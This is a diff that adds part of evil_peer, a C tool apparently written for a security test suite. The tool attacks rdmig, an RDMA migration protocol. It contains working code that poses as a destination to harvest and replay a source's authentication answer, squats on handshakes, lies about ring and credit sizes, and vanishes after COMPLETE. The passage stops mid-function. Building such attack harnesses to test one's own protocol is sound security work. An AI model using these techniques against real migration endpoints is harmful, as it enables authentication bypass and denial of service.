@@ -1,0 +1,1360 @@
+/* evil_peer: a hostile rdmig peer for the security suite.  It speaks the wire
+ * protocol of rdmig(7) with its own framing and its own receive buffers, so
+ * it can do what an honest peer never does: pose as a destination to collect
+ * a source's answer, replay it on a connection whose RTU it never sends, lie
+ * about its rings and credits, squat on handshakes, and vanish after
+ * COMPLETE.
+ *
+ *   evil_peer harvest HOST:PORT --variant zero|relay [--listen HOST]
+ *   evil_peer hold HOST:PORT N SECONDS
+ *   evil_peer rings HOST:PORT [--depth N] [--msg-max BYTES] [--hold-ms MS]
+ *   evil_peer bigmap HOST:PORT --key FILE [--size BYTES] [--pin-all]
+ *   evil_peer vanish HOST:PORT [--size BYTES]
+ *   common: [--timeout MS] (each wait for a peer, default 10000)
+ *           [--proto 1|2|auto] [--name BLOCK] [--chunk-shift N]
+ *
+ * HOST:PORT is the real destination (migrate-recv).  harvest listens on
+ * --listen (default: HOST) as a fake destination and prints
+ * "evil_peer: listening on port N" on stderr for the source to be pointed
+ * at.  Progress goes to stderr; stdout gets exactly one result line,
+ * "MODE: succeeded|refused key=value ...".  Exit status: 0 the attack
+ * succeeded, 1 it was refused, 2 usage or setup error, 3 the mode's time
+ * bound ran out.
+ *
+ * What "succeeded" means per mode: harvest, a BLOCK_MAP_RESP with a base
+ * address arrived on the replayed connection; hold, a connection was still
+ * open after SECONDS; rings, the destination kept the connection with the
+ * ring asked for and sent frames on it (its send ring exists: the test
+ * measures what that cost); bigmap, a BLOCK_MAP_RESP arrived; vanish,
+ * COMPLETE was delivered and our QP destroyed before the COMPLETE_ACK could
+ * land (the test checks what the destination made of it).
+ *
+ * --proto auto (the default) speaks what the other side offers: as a fake
+ * destination the source's version, as a source versions 1..2.  Version 1
+ * is the format before the challenge moved into ACCEPT (24-byte ACCEPT, the
+ * destination's AUTH_CHALLENGE frame after ESTABLISHED, MACs over the two
+ * nonces only), so the same attacks run against an old build. */
+#include <endian.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <inttypes.h>
+#include <netdb.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include <sodium.h>
+
+#include "auth.h"
+#include "codec.h"
+#include "fabric.h"
+#include "privdata.h"
+#include "rdmig.pb-c.h"
+
+#define NRX_MAX 64
+#define NTX 16
+#define TX_SIZE 4096
+#define V1_ACCEPT_LEN 24
+#define V1_NONCE_LEN 32
+#define HOLD_MAX 64
+#define KEEPALIVE_MS 200
+#define IB_CM_REJ_CONSUMER_DEFINED 28
+
+enum { TAG_RX = 1, TAG_TX };
+
+struct slot {
+	struct fab_tag tag;
+	uint32_t idx;
+};
+
+/* One QP's control frames.  The receive buffers are ours to post or not:
+ * what we announce in the REQUEST (depth, size) need not be what we post. */
+struct wire {
+	struct ibv_qp *qp;
+	struct ibv_cq *cq;
+	struct ibv_mr *mr;
+	uint8_t *mem;           /* nrx buffers of rx_size, then NTX of TX_SIZE */
+	uint32_t nrx, rx_size;
+	struct slot rx[NRX_MAX], tx[NTX];
+	bool tx_busy[NTX];
+	uint32_t credits;       /* the peer's buffers we may still fill */
+	uint32_t to_return;     /* ours re-posted since our last frame */
+	bool repost;            /* re-post a buffer as soon as its frame is read */
+	uint64_t frames_in;
+};
+
+struct frame {
+	struct ctrl_hdr h;
+	ProtobufCMessage *m;
+	uint32_t slot;          /* the receive buffer it arrived in */
+	uint8_t raw[TX_SIZE];   /* as received, for relaying (len 0: too long) */
+	size_t len;
+};
+
+/* One connection: ours to a destination, dialled with a QP rdma_cm does not
+ * know about (so whether the RTU is ever sent is our choice), or a source's
+ * to us, answered through fabric.c like a real destination (fc). */
+struct peer {
+	struct rdma_event_channel *ech;
+	struct rdma_cm_id *id;
+	struct ibv_pd *pd;
+	struct ibv_cq *cq;
+	struct ibv_qp *qp;
+	struct fab_conn *fc;
+	struct wire w;
+	uint8_t priv[FAB_PRIV_MAX]; /* the peer's ACCEPT, REJECT or REQUEST */
+	size_t priv_len;
+	uint32_t peer_qpn;
+	bool rtu;               /* we completed the connection (active side) */
+	bool closed;            /* disconnected, rejected or broken */
+	char said[1100];        /* the peer's ERROR text */
+	struct rd_err err;
+};
+
+struct opts {
+	const char *mode, *host, *port, *lhost, *key_path, *name;
+	int variant;            /* harvest: 0 zero, 1 relay */
+	int proto;              /* 0 auto, else 1 or 2 */
+	uint64_t size, msg_max;
+	uint32_t depth, chunk_shift;
+	int pin_all, hold_ms, n, seconds;
+	uint8_t key[AUTH_KEY_MAX];
+	size_t key_len;
+};
+
+static int timeout_ms = 10000;
+static const char *mode_name = "evil_peer";
+
+static void note(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static void note(const char *fmt, ...)
+{
+	va_list ap;
+
+	fprintf(stderr, "evil_peer: %s: ", mode_name);
+	va_start(ap, fmt);
+	vfprintf(stderr, fmt, ap);
+	va_end(ap);
+	fputc('\n', stderr);
+}
+
+/* The one line on stdout; returns the exit status. */
+static int result(int code, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
+static int result(int code, const char *fmt, ...)
+{
+	va_list ap;
+
+	printf("%s: %s ", mode_name, code == 0 ? "succeeded" : code == 1 ? "refused" : "error");
+	va_start(ap, fmt);
+	vprintf(fmt, ap);
+	va_end(ap);
+	putchar('\n');
+	fflush(stdout);
+	return code;
+}
+
+/* Peer text inside a "..." value of the result line. */
+static const char *quoted(const char *s, char *buf, size_t len)
+{
+	size_t i;
+
+	snprintf(buf, len, "%s", s && *s ? s : "-");
+	for (i = 0; buf[i]; i++)
+		if (buf[i] == '"' || buf[i] == '\n')
+			buf[i] = '\'';
+	return buf;
+}
+
+static void on_alarm(int sig)
+{
+	static const char msg[] = " error time-bound=exceeded\n";
+
+	(void)sig;
+	if (write(1, mode_name, strlen(mode_name)) < 0 || write(1, ":", 1) < 0 ||
+	    write(1, msg, sizeof(msg) - 1) < 0) {
+		/* Nothing more to do about it. */
+	}
+	_exit(3);
+}
+
+/* ---- frames --------------------------------------------------------------- */
+
+static int post_rx(struct wire *w, uint32_t i)
+{
+	struct ibv_sge sge = { .addr = (uintptr_t)(w->mem + (size_t)i * w->rx_size),
+			       .length = w->rx_size, .lkey = w->mr->lkey };
+	struct ibv_recv_wr wr = { .wr_id = fab_wr_id(&w->rx[i].tag), .sg_list = &sge,
+				  .num_sge = 1 }, *bad;
+
+	return -ibv_post_recv(w->qp, &wr, &bad);
+}
+
+/* Registers our buffers and posts @nrx receives of @rx_size bytes. */
+static int wire_init(struct wire *w, struct ibv_pd *pd, struct ibv_qp *qp, struct ibv_cq *cq,
+		     uint32_t nrx, uint32_t rx_size)
+{
+	size_t len = (size_t)nrx * rx_size + (size_t)NTX * TX_SIZE;
+	uint32_t i;
+	int rc;
+
+	w->qp = qp;
+	w->cq = cq;
+	w->nrx = nrx;
+	w->rx_size = rx_size;
+	w->repost = true;
+	if (nrx > NRX_MAX || posix_memalign((void **)&w->mem, 4096, len))
+		return -ENOMEM;
+	memset(w->mem, 0, len);
+	w->mr = ibv_reg_mr(pd, w->mem, len, IBV_ACCESS_LOCAL_WRITE);
+	if (!w->mr)
+		return -errno;
+	for (i = 0; i < NTX; i++)
+		w->tx[i] = (struct slot){ .tag.kind = TAG_TX, .idx = i };
+	for (i = 0; i < nrx; i++) {
+		w->rx[i] = (struct slot){ .tag.kind = TAG_RX, .idx = i };
+		rc = post_rx(w, i);
+		if (rc)
+			return rc;
+	}
+	return 0;
+}
+
+static void wire_fini(struct wire *w)
+{
+	if (w->mr)
+		ibv_dereg_mr(w->mr);
+	free(w->mem);
+	w->mr = NULL;
+	w->mem = NULL;
+}
+
+static int wire_post(struct wire *w, const void *frame, size_t len)
+{
+	struct ibv_sge sge = { .lkey = w->mr->lkey, .length = (uint32_t)len };
+	struct ibv_send_wr wr = { .sg_list = &sge, .num_sge = 1, .opcode = IBV_WR_SEND,
+				  .send_flags = IBV_SEND_SIGNALED }, *bad;
+	uint8_t *buf;
+	unsigned i;
+	int rc;
+
+	for (i = 0; i < NTX && w->tx_busy[i]; i++)
+		;
+	if (i == NTX || len > TX_SIZE)
+		return i == NTX ? -EAGAIN : -EMSGSIZE;
+	buf = w->mem + (size_t)w->nrx * w->rx_size + (size_t)i * TX_SIZE;
+	memcpy(buf, frame, len);
+	sge.addr = (uintptr_t)buf;
+	wr.wr_id = fab_wr_id(&w->tx[i].tag);
+	rc = ibv_post_send(w->qp, &wr, &bad);
+	if (rc)
+		return -rc;
+	w->tx_busy[i] = true;
+	if (w->credits)
+		w->credits--;
+	return 0;
+}
+
+/* Sends @m as @type; its header returns @claim credits (-1: the buffers we
+ * really re-posted). */
+static int send_msg(struct peer *p, unsigned type, const ProtobufCMessage *m, int claim)
+{
+	uint8_t buf[TX_SIZE];
+	int len = ctrl_encode(type, (uint16_t)(claim < 0 ? p->w.to_return : (uint32_t)claim), m,
+			      buf, sizeof(buf), &p->err);
+
+	if (len < 0)
+		return len;
+	p->w.to_return = 0;
+	return wire_post(&p->w, buf, (size_t)len);
+}
+
+static bool tx_idle(const struct wire *w)
+{
+	unsigned i;
+
+	for (i = 0; i < NTX; i++)
+		if (w->tx_busy[i])
+			return false;
+	return true;
+}
+
+/* ---- connections -------------------------------------------------------- */
+
+static int get_event(struct rdma_event_channel *ech, int64_t deadline, struct rdma_cm_event **ev)
+{
+	for (;;) {
+		if (!rdma_get_cm_event(ech, ev))
+			return 0;
+		if (errno != EAGAIN && errno != EINTR)
+			return -errno;
+		if (deadline == 0)
+			return -EAGAIN;
+		if (rd_expired(deadline))
+			return -ETIMEDOUT;
+		usleep(1000);
+	}
+}
+
+static int wait_event(struct peer *p, enum rdma_cm_event_type want, int64_t deadline)
+{
+	struct rdma_cm_event *ev;
+	enum rdma_cm_event_type got;
+	int rc = get_event(p->ech, deadline, &ev), status;
+
+	if (rc)
+		return rd_err_set(&p->err, rc, "waiting for %s: %s", rdma_event_str(want),
+				  strerror(-rc));
+	got = ev->event;
+	status = ev->status;
+	if (got == RDMA_CM_EVENT_CONNECT_RESPONSE || got == RDMA_CM_EVENT_REJECTED) {
+		size_t n = ev->param.conn.private_data_len;
+
+		if (got == RDMA_CM_EVENT_CONNECT_RESPONSE || status == IB_CM_REJ_CONSUMER_DEFINED) {
+			p->priv_len = n < sizeof(p->priv) ? n : sizeof(p->priv);
+			if (ev->param.conn.private_data)
+				memcpy(p->priv, ev->param.conn.private_data, p->priv_len);
+		}
+		p->peer_qpn = ev->param.conn.qp_num;
+	}
+	rdma_ack_cm_event(ev);
+	if (got == want)
+		return 0;
+	p->closed = true;
+	if (got == RDMA_CM_EVENT_REJECTED)
+		return rd_err_set(&p->err, -ECONNREFUSED, "rejected (status %d)", status);
+	return rd_err_set(&p->err, -ECONNABORTED, "got %s (status %d) instead of %s",
+			  rdma_event_str(got), status, rdma_event_str(want));
+}
+
+static int modify_qp(struct peer *p, enum ibv_qp_state s, const char *name)
+{
+	struct ibv_qp_attr attr = { .qp_state = s };
+	int mask = 0, rc;
+
+	if (rdma_init_qp_attr(p->id, &attr, &mask))
+		return rd_err_set(&p->err, -errno, "rdma_init_qp_attr(%s) failed: %s", name,
+				  strerror(errno));
+	rc = ibv_modify_qp(p->qp, &attr, mask);
+	if (rc)
+		return rd_err_set(&p->err, -rc, "ibv_modify_qp(%s) failed: %s", name, strerror(rc));
+	return 0;
+}
+
+/* Connects to @host:@port with @req as private data, @nrx receive buffers
+ * of @rx_size posted.  The QP is ours, not rdma_cm's, so librdmacm hands us
+ * CONNECT_RESPONSE and leaves the RTU to us: with @rtu false it is never
+ * sent, and the destination never sees ESTABLISHED, yet our QP is ready to
+ * send.  -ECONNREFUSED when rejected (the REJECT is in p->priv). */
+static int dial(struct peer *p, const char *host, const char *port, const void *req,
+		size_t req_len, uint32_t nrx, uint32_t rx_size, bool rtu, int64_t deadline)
+{
+	struct addrinfo hints = { .ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM }, *ai;
+	struct ibv_qp_init_attr qa = { .qp_type = IBV_QPT_RC,
+				       .cap = { .max_send_wr = NTX + 2, .max_recv_wr = NRX_MAX,
+						.max_send_sge = 1, .max_recv_sge = 1 } };
+	struct rdma_conn_param cp = { .private_data = req, .private_data_len = (uint8_t)req_len,
+				      .retry_count = 7, .rnr_retry_count = 6 };
+	int rc, fl;
+
+	rc = getaddrinfo(host, port, &hints, &ai);
+	if (rc)
+		return rd_err_set(&p->err, -EINVAL, "cannot resolve %s:%s: %s", host, port,
+				  gai_strerror(rc));
+	p->ech = rdma_create_event_channel();
+	if (!p->ech || rdma_create_id(p->ech, &p->id, p, RDMA_PS_TCP)) {
+		freeaddrinfo(ai);
+		return rd_err_set(&p->err, -errno, "rdma_cm: %s", strerror(errno));
+	}
+	fl = fcntl(p->ech->fd, F_GETFL);
+	fcntl(p->ech->fd, F_SETFL, fl | O_NONBLOCK);
+	rc = rdma_resolve_addr(p->id, NULL, ai->ai_addr, 2000) ? -errno : 0;
+	freeaddrinfo(ai);
+	if (rc)
+		return rd_err_set(&p->err, rc, "rdma_resolve_addr: %s", strerror(-rc));
+	rc = wait_event(p, RDMA_CM_EVENT_ADDR_RESOLVED, deadline);
+	if (!rc && rdma_resolve_route(p->id, 2000))
+		rc = rd_err_set(&p->err, -errno, "rdma_resolve_route: %s", strerror(errno));
+	if (!rc)
+		rc = wait_event(p, RDMA_CM_EVENT_ROUTE_RESOLVED, deadline);
+	if (rc)
+		return rc;
+	p->pd = ibv_alloc_pd(p->id->verbs);
+	p->cq = p->pd ? ibv_create_cq(p->id->verbs, NRX_MAX + NTX + 4, NULL, NULL, 0) : NULL;
+	qa.send_cq = qa.recv_cq = p->cq;
+	p->qp = p->cq ? ibv_create_qp(p->pd, &qa) : NULL;
+	if (!p->qp)
+		return rd_err_set(&p->err, -errno, "cannot create PD, CQ or QP: %s",
+				  strerror(errno));
+	rc = modify_qp(p, IBV_QPS_INIT, "INIT");
+	if (!rc)
+		rc = wire_init(&p->w, p->pd, p->qp, p->cq, nrx, rx_size);
+	if (rc)
+		return rc;
+	cp.qp_num = p->qp->qp_num;
+	if (rdma_connect(p->id, &cp))
+		return rd_err_set(&p->err, -errno, "rdma_connect: %s", strerror(errno));
+	rc = wait_event(p, RDMA_CM_EVENT_CONNECT_RESPONSE, deadline);
+	if (!rc)
+		rc = modify_qp(p, IBV_QPS_RTR, "RTR");
+	if (!rc)
+		rc = modify_qp(p, IBV_QPS_RTS, "RTS");
+	if (rc || !rtu)
+		return rc;
+	if (rdma_establish(p->id))
+		return rd_err_set(&p->err, -errno, "rdma_establish: %s", strerror(errno));
+	p->rtu = true;
+	return 0;
+}
+
+static void peer_close(struct peer *p)
+{
+	if (p->fc) {
+		fab_disconnect(p->fc);
+		wire_fini(&p->w);
+		fab_conn_destroy(p->fc);
+		p->fc = NULL;
+		return;
+	}
+	if (p->id && p->rtu && !p->closed)
+		rdma_disconnect(p->id);
+	if (p->qp)
+		ibv_destroy_qp(p->qp);
+	wire_fini(&p->w);
+	if (p->cq)
+		ibv_destroy_cq(p->cq);
+	if (p->pd)
+		ibv_dealloc_pd(p->pd);
+	if (p->id)
+		rdma_destroy_id(p->id);
+	if (p->ech)
+		rdma_destroy_event_channel(p->ech);
+	memset(p, 0, sizeof(*p));
+}
+
+/* The connection's end shows as a CM event; completions may still hold the
+ * peer's last frame, so they are drained before it counts. */
+static void cm_check(struct peer *p)
+{
+	struct rdma_cm_event *ev;
+
+	if (p->fc) {
+		if (fab_cm_process(p->fc) < 0)
+			p->closed = true;
+		return;
+	}
+	while (p->ech && !get_event(p->ech, 0, &ev)) {
+		switch (ev->event) {
+		case RDMA_CM_EVENT_DISCONNECTED:
+		case RDMA_CM_EVENT_REJECTED:
+		case RDMA_CM_EVENT_CONNECT_ERROR:
+		case RDMA_CM_EVENT_UNREACHABLE:
+		case RDMA_CM_EVENT_DEVICE_REMOVAL:
+			p->closed = true;
+			break;
+		default:
+			break;
+		}
+		rdma_ack_cm_event(ev);
+	}
+}
+
+/* 1 and *f filled when a frame arrived, 0 when nothing is pending, or
+ * negative once the connection is over. */
+static int pump(struct peer *p, struct frame *f)
+{
+	struct ibv_wc wc;
+	struct slot *s;
+	uint8_t *buf;
+	int rc;
+
+	cm_check(p);
+	while ((rc = ibv_poll_cq(p->w.cq, 1, &wc)) > 0) {
+		s = rd_container_of(fab_tag_of(&wc), struct slot, tag);
+		if (s->tag.kind == TAG_TX) {
+			p->w.tx_busy[s->idx] = false;
+			if (wc.status != IBV_WC_SUCCESS) {
+				rd_err_set(&p->err, -EIO, "SEND failed: %s",
+					   ibv_wc_status_str(wc.status));
+				p->closed = true;
+			}
+			continue;
+		}
+		if (wc.status != IBV_WC_SUCCESS) {
+			p->closed = true;
+			continue;
+		}
+		buf = p->w.mem + (size_t)s->idx * p->w.rx_size;
+		f->slot = s->idx;
+		f->len = wc.byte_len <= sizeof(f->raw) ? wc.byte_len : 0;
+		memcpy(f->raw, buf, f->len);
+		rc = ctrl_decode(buf, wc.byte_len, p->w.rx_size, &f->h, &f->m, &p->err);
+		if (p->w.repost && !post_rx(&p->w, s->idx))
+			p->w.to_return++;
+		if (rc) {
+			p->closed = true;
+			return rc;
+		}
+		p->w.frames_in++;
+		p->w.credits += f->h.credits;
+		if (f->h.type == CT_ERROR)
+			snprintf(p->said, sizeof(p->said), "%s",
+				 ((Rdmig__Error *)f->m)->message ? ((Rdmig__Error *)f->m)->message : "");
+		return 1;
+	}
+	if (rc < 0)
+		p->closed = true;
+	return p->closed ? -ECONNRESET : 0;
+}
+
+static int next_frame(struct peer *p, struct frame *f, int64_t deadline)
+{
+	int rc;
+
+	for (;;) {
+		rc = pump(p, f);
+		if (rc)
+			return rc < 0 ? rc : 0;
+		if (rd_expired(deadline))
+			return -ETIMEDOUT;
+		usleep(1000);
+	}
+}
+
+/* Waits for a frame of @type, skipping credits and keepalives; an ERROR
+ * ends the wait with -ECONNABORTED (its text in p->said).  The caller frees
+ * f->m. */
+static int expect(struct peer *p, unsigned type, struct frame *f, int64_t deadline)
+{
+	int rc;
+
+	for (;;) {
+		rc = next_frame(p, f, deadline);
+		if (rc)
+			return rc;
+		if (f->h.type == type)
+			return 0;
+		if (f->h.type == CT_ERROR) {
+			ctrl_msg_free(f->m);
+			return -ECONNABORTED;
+		}
+		note("skipping %s while waiting for %s", ctrl_type_name(f->h.type),
+		     ctrl_type_name(type));
+		ctrl_msg_free(f->m);
+	}
+}
+
+/* Waits until every send completed (or the connection broke). */
+static void drain_tx(struct peer *p, int64_t deadline)
+{
+	struct frame f;
+
+	while (!tx_idle(&p->w) && !p->closed && !rd_expired(deadline)) {
+		if (pump(p, &f) > 0)
+			ctrl_msg_free(f.m);
+		else
+			usleep(1000);
+	}
+}
+
+/* ---- what an rdmig source says ------------------------------------------------- */
+
+static uint16_t choose_version(const struct opts *o, uint16_t vmin, uint16_t vmax)
+{
+	uint16_t v = o->proto ? (uint16_t)o->proto : vmax;
+
+	return v >= vmin && v <= vmax && v >= 1 && v <= 2 ? v : 0;
+}
+
+static size_t encode_request(const struct opts *o, uint32_t caps, uint32_t depth,
+			     uint32_t msg_max, uint8_t out[PD_REQUEST_LEN])
+{
+	struct pd_request r = { .ver_min = o->proto ? (uint16_t)o->proto : 1,
+				.ver_max = o->proto ? (uint16_t)o->proto : 2,
+				.caps = caps, .ctrl_depth = depth, .ctrl_msg_max = msg_max,
+				.channels = 1 };
+
+	randombytes_buf(&r.session_id, sizeof(r.session_id));
+	return pd_encode_request(&r, out, PD_REQUEST_LEN);
+}
+
+static int send_block_map(struct peer *p, const struct opts *o, int claim)
+{
+	Rdmig__BlockDesc bd = RDMIG__BLOCK_DESC__INIT, *bds[1] = { &bd };
+	Rdmig__BlockMapReq req = RDMIG__BLOCK_MAP_REQ__INIT;
+
+	bd.name = (char *)o->name;
+	bd.length = o->size;
+	bd.page_size = 4096;
+	req.n_blocks = 1;
+	req.blocks = bds;
+	req.chunk_shift = o->chunk_shift;
+	return send_msg(p, CT_BLOCK_MAP_REQ, &req.base, claim);
+}
+
+/* A BLOCK_MAP_RESP's first base address, or 0. */
+static uint64_t resp_base(const struct frame *f)
+{
+	const Rdmig__BlockMapResp *r = (const Rdmig__BlockMapResp *)f->m;
+
+	return r && r->n_blocks ? r->blocks[0]->base_addr : 0;
+}
+
+/* Dials the destination as a source would (versions 1..2 unless --proto),
+ * with the RTU.  Fills @acc from its ACCEPT and @req with our REQUEST. */
+static int dial_source(struct peer *p, const struct opts *o, uint32_t caps, uint32_t depth,
+		       uint32_t msg_max, uint32_t nrx, uint32_t rx_size,
+		       uint8_t req[PD_REQUEST_LEN], struct pd_accept *acc)
+{
+	struct rd_err e;
+	int rc;
+
+	encode_request(o, caps, depth, msg_max, req);
+	rc = dial(p, o->host, o->port, req, PD_REQUEST_LEN, nrx, rx_size, true,
+		  rd_deadline(timeout_ms));
+	if (rc)
+		return rc;
+	rc = pd_decode_accept(p->priv, p->priv_len, acc, &e);
+	if (rc)
+		return rd_err_set(&p->err, rc, "%s", e.msg);
+	p->w.credits = acc->ctrl_depth;
+	return 0;
+}
+
+/* The reason of a REJECT in p->priv, for the result line. */
+static const char *reject_reason(const struct peer *p)
+{
+	struct pd_reject rej;
+	struct rd_err e;
+
+	if (pd_decode_reject(p->priv, p->priv_len, &rej, &e))
+		return "no-reason";
+	return pd_reason_str(rej.reason);
+}
+
+static void v1_mac(const struct opts *o, const uint8_t nd[V1_NONCE_LEN],
+		   const uint8_t ns[V1_NONCE_LEN], uint8_t mac[AUTH_MAC_LEN])
+{
+	static const char label[] = "rdmig-v1 source";
+	crypto_auth_hmacsha256_state st;
+
+	crypto_auth_hmacsha256_init(&st, o->key, o->key_len);
+	crypto_auth_hmacsha256_update(&st, (const unsigned char *)label, sizeof(label));
+	crypto_auth_hmacsha256_update(&st, nd, V1_NONCE_LEN);
+	crypto_auth_hmacsha256_update(&st, ns, V1_NONCE_LEN);
+	crypto_auth_hmacsha256_final(&st, mac);
+}
+
+/* Proves we hold the key, as an honest source of @version would. */
+static int authenticate(struct peer *p, const struct opts *o, uint16_t version,
+			const uint8_t req[PD_REQUEST_LEN])
+{
+	Rdmig__AuthChallenge ch = RDMIG__AUTH_CHALLENGE__INIT;
+	Rdmig__AuthResponse resp = RDMIG__AUTH_RESPONSE__INIT;
+	struct auth_bind b;
+	uint8_t mac[AUTH_MAC_LEN];
+	struct frame f;
+	int rc;
+
+	memset(&b, 0, sizeof(b));
+	randombytes_buf(b.src_nonce, sizeof(b.src_nonce));
+	if (version >= 2) {
+		memcpy(b.req, req, PD_REQUEST_LEN);
+		memcpy(b.acc, p->priv, PD_ACCEPT_LEN);
+		b.src_qpn = p->qp->qp_num;
+		b.dst_qpn = p->peer_qpn;
+		if (auth_addr(rdma_get_local_addr(p->id), b.src_addr) ||
+		    auth_addr(rdma_get_peer_addr(p->id), b.dst_addr))
+			return rd_err_set(&p->err, -EAFNOSUPPORT, "neither IPv4 nor IPv6");
+		auth_mac(o->key, o->key_len, AUTH_SOURCE, &b, mac);
+	} else {
+		const Rdmig__AuthChallenge *c;
+
+		rc = expect(p, CT_AUTH_CHALLENGE, &f, rd_deadline(timeout_ms));
+		if (rc)
+			return rc;
+		c = (const Rdmig__AuthChallenge *)f.m;
+		if (c->nonce.len != V1_NONCE_LEN) {
+			ctrl_msg_free(f.m);
+			return rd_err_set(&p->err, -EPROTO, "challenge of %zu bytes", c->nonce.len);
+		}
+		v1_mac(o, c->nonce.data, b.src_nonce, mac);
+		ctrl_msg_free(f.m);
+	}
+	ch.nonce.data = b.src_nonce;
+	ch.nonce.len = AUTH_NONCE_LEN;
+	resp.mac.data = mac;
+	resp.mac.len = AUTH_MAC_LEN;
+	rc = send_msg(p, CT_AUTH_CHALLENGE, &ch.base, -1);
+	if (!rc)
+		rc = send_msg(p, CT_AUTH_RESPONSE, &resp.base, -1);
+	if (!rc)
+		rc = expect(p, CT_AUTH_RESPONSE, &f, rd_deadline(timeout_ms));
+	if (rc)
+		return rc;
+	ctrl_msg_free(f.m);
+	note("authenticated (protocol %u)", version);
+	return 0;
+}
+
+/* ---- harvest: pose as a destination, replay the answer --------------------------- */
+
+/* The first two frames a source sends with AUTH: its challenge and its
+ * answer, kept as raw bytes to replay. */
+struct answer {
+	uint8_t frame[2][TX_SIZE];
+	size_t len[2];
+	int n;
+};
+
+static int collect_answer(struct peer *src, struct answer *a)
+{
+	int64_t deadline = rd_deadline(timeout_ms);
+	struct frame f;
+	int rc;
+
+	while (a->n < 2) {
+		rc = next_frame(src, &f, deadline);
+		if (rc)
+			return rc;
+		if ((f.h.type == CT_AUTH_CHALLENGE && a->n == 0) ||
+		    (f.h.type == CT_AUTH_RESPONSE && a->n == 1)) {
+			memcpy(a->frame[a->n], f.raw, f.len);
+			a->len[a->n++] = f.len;
+		} else if (f.h.type == CT_ERROR) {
+			ctrl_msg_free(f.m);
+			return -ECONNABORTED;
+		}
+		ctrl_msg_free(f.m);
+	}
+	return 0;
+}
+
+static int src_pre_accept(struct fab_conn *c, void *arg)
+{
+	struct peer *p = arg;
+
+	return wire_init(&p->w, c->pd, c->id->qp, c->cq, 16, p->w.rx_size);
+}
+
+/* Sends a frame as the source made it, except for the credits in its
+ * header: those counted the source's buffers, and a destination that sees
+ * more credits than our ring holds would stop there, before the answer is
+ * even checked. */
+static int relay_frame(struct peer *p, const uint8_t *frame, size_t len)
+{
+	uint8_t buf[TX_SIZE];
+	uint16_t credits = htobe16((uint16_t)p->w.to_return);
+
+	if (len < CTRL_HDR_LEN || len > sizeof(buf))
+		return -EMSGSIZE;
+	memcpy(buf, frame, len);
+	memcpy(buf + 6, &credits, sizeof(credits));
+	p->w.to_return = 0;
+	return wire_post(&p->w, buf, len);
+}
+
+/* Replays the collected answer on @dst (dialled without RTU), then asks for
+ * a block map.  1 when a BLOCK_MAP_RESP with a base address came back. */
+static int replay(struct peer *dst, const struct opts *o, const struct answer *a,
+		  bool *dest_answered, uint64_t *base)
+{
+	int64_t deadline = rd_deadline(timeout_ms);
+	struct frame f;
+	int rc;
+
+	rc = relay_frame(dst, a->frame[0], a->len[0]);
+	if (!rc)
+		rc = relay_frame(dst, a->frame[1], a->len[1]);
+	if (!rc)
+		rc = send_block_map(dst, o, -1);
+	if (rc) {
+		rd_err_set(&dst->err, rc, "cannot send on the replayed connection: %s",
+			   strerror(-rc));
+		return 0;
+	}
+	for (;;) {
+		rc = next_frame(dst, &f, deadline);
+		if (rc)
+			return 0;
+		if (f.h.type == CT_AUTH_RESPONSE)
+			*dest_answered = true;
+		if (f.h.type == CT_BLOCK_MAP_RESP)
+			*base = resp_base(&f);
+		ctrl_msg_free(f.m);
+		if (*base)
+			return 1;
+		if (f.h.type == CT_ERROR)
+			return 0;
+	}
+}
+
+static int harvest(const struct opts *o)
+{
+	struct fab_caps caps = { .sq_depth = NTX + 2, .rq_depth = 16 };
+	struct peer src, dst;
+	struct fab_listener *l = NULL;
+	struct pd_request req;
+	struct pd_accept acc;
+	struct answer ans = { .n = 0 };
+	struct rd_err e = { "" };
+	uint8_t reqb[PD_REQUEST_LEN], accb[PD_ACCEPT_LEN] = { 0 };
+	const char *variant = o->variant ? "relay" : "zero";
+	char q1[1200], q2[1200];
+	uint16_t version;
+	size_t acc_len;
+	bool dest_answered = false;
+	uint64_t base = 0;
+	int rc, code = 2;
+
+	memset(&src, 0, sizeof(src));
+	memset(&dst, 0, sizeof(dst));
+	rc = fab_listen(&l, o->lhost, "0", &e);
+	if (rc)
+		return result(2, "variant=%s setup=\"%s\"", variant, quoted(e.msg, q1, sizeof(q1)));
+	fprintf(stderr, "evil_peer: listening on port %u\n", fab_listener_port(l));
+	rc = fab_get_request(l, rd_deadline(timeout_ms * 3), &src.fc, &e);
+	if (rc) {
+		code = result(2, "variant=%s setup=\"no source came: %s\"", variant,
+			      quoted(e.msg, q1, sizeof(q1)));
+		goto out;
+	}
+	memcpy(src.priv, src.fc->peer_priv, src.fc->peer_priv_len);
+	src.priv_len = src.fc->peer_priv_len;
+	if (pd_decode_request(src.priv, src.priv_len, &req, &e) ||
+	    !(version = choose_version(o, req.ver_min, req.ver_max))) {
+		code = result(2, "variant=%s setup=\"cannot speak to this source: %s\"", variant,
+			      quoted(e.msg[0] ? e.msg : "no common version", q1, sizeof(q1)));
+		goto out;
+	}
+	memcpy(reqb, src.priv, PD_REQUEST_LEN);
+	acc_len = version >= 2 ? PD_ACCEPT_LEN : V1_ACCEPT_LEN;
+	note("a source asks for protocol %u..%u with caps 0x%x: speaking %u", req.ver_min,
+	     req.ver_max, req.caps, version);
+	if (o->variant) {
+		/* Learn the real destination's challenge first (version 2
+		 * carries it in ACCEPT; version 1 has none before ESTABLISHED,
+		 * which we never let happen), with the source's own REQUEST. */
+		rc = dial(&dst, o->host, o->port, reqb, PD_REQUEST_LEN, 16, req.ctrl_msg_max < 65536 ?
+			  req.ctrl_msg_max : 65536, false, rd_deadline(timeout_ms));
+		if (rc) {
+			code = result(1, "variant=%s proto=%u answer=none dest=\"%s: %s\"", variant,
+				      version, rc == -ECONNREFUSED ? "rejected" : "unreachable",
+				      quoted(rc == -ECONNREFUSED ? reject_reason(&dst) : dst.err.msg,
+					     q1, sizeof(q1)));
+			goto out;
+		}
+		memcpy(accb, dst.priv, acc_len);
+		note("the real destination accepted without our RTU; presenting its ACCEPT to "
+		     "the source");
+	} else {
+		acc = (struct pd_accept){ .version = version, .ctrl_depth = 16,
+					  .ctrl_msg_max = 65536,
+					  .caps = req.caps & (PD_CAP_PIN_ALL | PD_CAP_ZERO_PAGES |
+							      PD_CAP_VERIFY | PD_CAP_AUTH) };
